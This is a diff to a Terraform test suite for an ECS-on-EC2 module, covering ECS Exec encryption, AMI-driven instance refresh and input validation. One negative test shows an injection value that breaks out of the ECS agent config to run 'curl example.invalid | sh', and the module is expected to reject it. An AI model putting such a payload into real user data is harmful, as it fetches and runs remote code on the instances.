@@ -26,6 +26,18 @@ mock_provider "aws" {
   mock_resource "aws_launch_template" {
     defaults = { id = "lt-0123456789abcdef0", latest_version = 1 }
   }
+  mock_data "aws_caller_identity" {
+    defaults = { account_id = "123456789012" }
+  }
+  mock_data "aws_region" {
+    defaults = { name = "eu-west-1" }
+  }
+  mock_resource "aws_kms_key" {
+    defaults = { arn = "arn:aws:kms:eu-west-1:123456789012:key/11111111-2222-3333-4444-555555555555", key_id = "11111111-2222-3333-4444-555555555555" }
+  }
+  mock_resource "aws_cloudwatch_log_group" {
+    defaults = { arn = "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/wpecs-test/exec" }
+  }
 }
 
 variables {
@@ -312,4 +324,369 @@ run "x86_64_is_the_default" {
     condition     = output.architecture == "x86_64" && data.aws_ssm_parameter.ami.name == "/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id"
     error_message = "By default the instances are x86_64 with the x86_64 AMI."
   }
+}
+
+# ECS Exec (exec_enabled): sessions encrypted with the cluster's own KMS key
+# and logged to a log group encrypted with it. AWS mocked.
+
+run "exec_sessions_are_encrypted_and_logged" {
+  command = apply
+
+  variables {
+    exec_enabled = true
+  }
+
+  assert {
+    condition     = one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).kms_key_id == aws_kms_key.exec[0].arn && one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).logging == "OVERRIDE"
+    error_message = "ECS Exec sessions must be encrypted with the cluster's key and logged to the cluster's own log group (logging OVERRIDE)."
+  }
+
+  assert {
+    condition     = one(one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).log_configuration).cloud_watch_encryption_enabled && one(one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).log_configuration).cloud_watch_log_group_name == "/ecs/wpecs-test/exec"
+    error_message = "The session log must go to /ecs/<name>/exec with encryption enforced."
+  }
+
+  assert {
+    condition     = aws_cloudwatch_log_group.exec[0].kms_key_id == aws_kms_key.exec[0].arn && aws_cloudwatch_log_group.exec[0].retention_in_days == 365
+    error_message = "The session log group must be encrypted with the exec key and kept a year by default."
+  }
+
+  assert {
+    condition     = aws_kms_key.exec[0].enable_key_rotation && strcontains(aws_kms_key.exec[0].policy, "logs.eu-west-1.amazonaws.com") && strcontains(aws_kms_key.exec[0].policy, "log-group:/ecs/wpecs-test/exec")
+    error_message = "The exec key must rotate and let CloudWatch Logs use it for this log group only."
+  }
+
+  assert {
+    condition     = output.exec_kms_key_arn == aws_kms_key.exec[0].arn && output.exec_log_group_arn == aws_cloudwatch_log_group.exec[0].arn
+    error_message = "The key and the log group must be outputs (the task role needs both)."
+  }
+}
+
+run "exec_off_by_default" {
+  command = plan
+
+  assert {
+    condition     = length(aws_ecs_cluster.this.configuration) == 0 && length(aws_kms_key.exec) == 0 && length(aws_cloudwatch_log_group.exec) == 0 && output.exec_kms_key_arn == null
+    error_message = "Without exec_enabled there is no exec configuration, key or log group."
+  }
+}
+
+run "exec_log_retention_must_be_a_cloudwatch_value" {
+  command = plan
+
+  variables {
+    exec_enabled            = true
+    exec_log_retention_days = 10
+  }
+
+  expect_failures = [var.exec_log_retention_days]
+}
+
+# A new ECS-optimized AMI (AWS changes the public SSM parameter's value) must
+# roll the instances: a new launch template version and an instance refresh
+# of the Auto Scaling group, and nothing else. The two runs share one state:
+# the first applies with AMI A, the second plans with AMI B.
+
+run "today_ami" {
+  command = apply
+
+  override_data {
+    target = data.aws_ssm_parameter.ami
+    values = { value = "ami-0aaaaaaaaaaaaaaaa", insecure_value = "ami-0aaaaaaaaaaaaaaaa" }
+  }
+
+  assert {
+    condition     = aws_launch_template.this.image_id == "ami-0aaaaaaaaaaaaaaaa"
+    error_message = "The launch template must use the AMI the SSM parameter names."
+  }
+}
+
+run "new_ami_rolls_the_instances" {
+  command = plan
+
+  # What the first run created, to compare with (asserts cannot read run.*).
+  variables {
+    before = {
+      launch_template_id         = run.today_ami.launch_template_id
+      asg_arn                    = run.today_ami.asg_arn
+      cluster_arn                = run.today_ami.cluster_arn
+      capacity_provider_name     = run.today_ami.capacity_provider_name
+      instance_security_group_id = run.today_ami.instance_security_group_id
+      instance_role_arn          = run.today_ami.instance_role_arn
+    }
+  }
+
+  override_data {
+    target = data.aws_ssm_parameter.ami
+    values = { value = "ami-0bbbbbbbbbbbbbbbb", insecure_value = "ami-0bbbbbbbbbbbbbbbb" }
+  }
+
+  # The launch template is updated in place (a new version, same ID) with the
+  # new image, and the group launches its latest version.
+  assert {
+    condition     = aws_launch_template.this.image_id == "ami-0bbbbbbbbbbbbbbbb" && aws_launch_template.this.id == var.before.launch_template_id && aws_launch_template.this.update_default_version
+    error_message = "A new AMI must become a new version of the same launch template (and its default version)."
+  }
+
+  assert {
+    condition     = aws_autoscaling_group.this.launch_template[0].id == aws_launch_template.this.id && aws_autoscaling_group.this.launch_template[0].version == tostring(aws_launch_template.this.latest_version)
+    error_message = "The group must launch the launch template's latest version, so a new version changes the group and starts a refresh."
+  }
+
+  # The refresh: rolling, never below the running capacity (new instances
+  # first, up to twice the size), instances already on the new template kept,
+  # and the instances ECS protects (managed termination protection) replaced
+  # too, after ECS managed draining moved their tasks.
+  assert {
+    condition     = length(aws_autoscaling_group.this.instance_refresh) == 1 && aws_autoscaling_group.this.instance_refresh[0].strategy == "Rolling"
+    error_message = "The Auto Scaling group must have a rolling instance refresh."
+  }
+
+  assert {
+    condition = (
+      aws_autoscaling_group.this.instance_refresh[0].preferences[0].min_healthy_percentage == 100 &&
+      aws_autoscaling_group.this.instance_refresh[0].preferences[0].max_healthy_percentage == 200
+    )
+    error_message = "The refresh must keep 100 % of the instances healthy (launch before terminate, up to 200 %), so task capacity never drops below the service's minimum."
+  }
+
+  assert {
+    condition     = aws_autoscaling_group.this.instance_refresh[0].preferences[0].skip_matching && tonumber(aws_autoscaling_group.this.instance_refresh[0].preferences[0].instance_warmup) == 300
+    error_message = "The refresh must skip instances already on the new template and wait 300 s of warm-up per new instance."
+  }
+
+  assert {
+    condition     = aws_autoscaling_group.this.instance_refresh[0].preferences[0].scale_in_protected_instances == "Refresh"
+    error_message = "Instances protected from scale-in (ECS managed termination protection protects every instance with tasks) must be refreshed, not skipped: the default \"Ignore\" would leave them on the old AMI forever."
+  }
+
+  assert {
+    condition     = aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_draining == "ENABLED" && aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_termination_protection == "ENABLED" && aws_autoscaling_group.this.protect_from_scale_in
+    error_message = "ECS must drain the tasks of an instance before the refresh terminates it (managed draining), and protect instances with tasks."
+  }
+
+  # Nothing else: every other resource keeps its identity and settings. A
+  # replacement would leave these IDs unknown in the plan (and fail here).
+  assert {
+    condition = (
+      aws_autoscaling_group.this.arn == var.before.asg_arn &&
+      aws_ecs_cluster.this.arn == var.before.cluster_arn &&
+      aws_ecs_capacity_provider.this.name == var.before.capacity_provider_name &&
+      aws_security_group.instances.id == var.before.instance_security_group_id &&
+      aws_iam_role.instance.arn == var.before.instance_role_arn
+    )
+    error_message = "Only the launch template may change with the AMI: the group, cluster, capacity provider, security group and role stay."
+  }
+
+  assert {
+    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "\nECS_CLUSTER=wpecs-test\n") && aws_launch_template.this.instance_type == "t3.medium" && aws_autoscaling_group.this.min_size == 1 && aws_autoscaling_group.this.max_size == 4
+    error_message = "A new AMI must not change the instances' user data, type or the group's size."
+  }
+}
+
+# Bad inputs are refused at plan time with a message naming the problem.
+
+run "min_greater_than_max_is_refused" {
+  command = plan
+  variables {
+    min_size = 5
+    max_size = 2
+  }
+  expect_failures = [var.max_size]
+}
+
+run "desired_above_max_is_refused" {
+  command = plan
+  variables {
+    desired_capacity = 9
+  }
+  expect_failures = [var.desired_capacity]
+}
+
+run "desired_below_min_is_refused" {
+  command = plan
+  variables {
+    min_size         = 2
+    desired_capacity = 1
+  }
+  expect_failures = [var.desired_capacity]
+}
+
+run "negative_min_is_refused" {
+  command = plan
+  variables {
+    min_size = -1
+  }
+  expect_failures = [var.min_size]
+}
+
+run "target_capacity_zero_is_refused" {
+  command = plan
+  variables {
+    target_capacity = 0
+  }
+  expect_failures = [var.target_capacity]
+}
+
+run "target_capacity_over_100_is_refused" {
+  command = plan
+  variables {
+    target_capacity = 101
+  }
+  expect_failures = [var.target_capacity]
+}
+
+run "hop_limit_zero_is_refused" {
+  command = plan
+  variables {
+    metadata_hop_limit = 0
+  }
+  expect_failures = [var.metadata_hop_limit]
+}
+
+run "name_with_reserved_prefix_is_refused" {
+  command = plan
+  variables {
+    name = "ecs-prod"
+  }
+  expect_failures = [var.name]
+}
+
+run "overriding_ecs_cluster_is_refused" {
+  command = plan
+  variables {
+    ecs_config = { ECS_CLUSTER = "someone-else" }
+  }
+  expect_failures = [var.ecs_config]
+}
+
+run "ecs_config_injection_is_refused" {
+  command = plan
+  variables {
+    ecs_config = { ECS_LOGLEVEL = "info\nECSCONFIG\ncurl example.invalid | sh" }
+  }
+  expect_failures = [var.ecs_config]
+}
+
+run "ecs_config_bad_key_is_refused" {
+  command = plan
+  variables {
+    ecs_config = { "loglevel" = "debug" }
+  }
+  expect_failures = [var.ecs_config]
+}
+
+run "reversed_port_range_is_refused" {
+  command = plan
+  variables {
+    dynamic_port_range = { from_port = 60000, to_port = 32768 }
+  }
+  expect_failures = [var.dynamic_port_range]
+}
+
+run "privileged_port_range_is_refused" {
+  command = plan
+  variables {
+    dynamic_port_range = { from_port = 22, to_port = 65535 }
+  }
+  expect_failures = [var.dynamic_port_range]
+}
+
+run "small_root_volume_is_refused" {
+  command = plan
+  variables {
+    root_volume = { size_gib = 8 }
+  }
+  expect_failures = [var.root_volume]
+}
+
+run "unknown_container_insights_is_refused" {
+  command = plan
+  variables {
+    container_insights = "on"
+  }
+  expect_failures = [var.container_insights]
+}
+
+run "bad_source_security_group_is_refused" {
+  command = plan
+  variables {
+    ingress_source_security_group_ids = ["0.0.0.0/0"]
+  }
+  expect_failures = [var.ingress_source_security_group_ids]
+}
+
+run "no_subnets_is_refused" {
+  command = plan
+  variables {
+    subnet_ids = []
+  }
+  expect_failures = [var.subnet_ids]
+}
+
+run "bad_vpc_id_is_refused" {
+  command = plan
+  variables {
+    vpc_id = "my-vpc"
+  }
+  expect_failures = [var.vpc_id]
+}
+
+run "refresh_without_room_above_100_is_refused" {
+  command = plan
+  variables {
+    instance_refresh = { max_healthy_percentage = 100 }
+  }
+  expect_failures = [var.instance_refresh]
+}
+
+run "refresh_without_warmup_is_refused" {
+  command = plan
+  variables {
+    instance_refresh = { instance_warmup = 0 }
+  }
+  expect_failures = [var.instance_refresh]
+}
+
+run "unknown_architecture_is_refused" {
+  command = plan
+  variables {
+    architecture = "aarch64"
+  }
+  expect_failures = [var.architecture]
+}
+
+run "arm64_with_an_x86_instance_type_is_refused" {
+  command = plan
+  variables {
+    architecture  = "arm64"
+    instance_type = "t3.medium"
+  }
+  expect_failures = [var.instance_type]
+}
+
+run "x86_64_with_a_graviton_instance_type_is_refused" {
+  command = plan
+  variables {
+    instance_type = "m7g.large"
+  }
+  expect_failures = [var.instance_type]
+}
+
+run "arm64_with_an_x86_spot_type_is_refused" {
+  command = plan
+  variables {
+    architecture  = "arm64"
+    instance_type = "t4g.medium"
+    spot          = { enabled = true, instance_types = ["t4g.medium", "m7i.large"] }
+  }
+  expect_failures = [var.spot]
+}
+
+run "an_ecs_ami_of_the_other_architecture_is_refused" {
+  command = plan
+  variables {
+    ami_ssm_parameter_name = "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id"
+  }
+  expect_failures = [var.ami_ssm_parameter_name]
 }
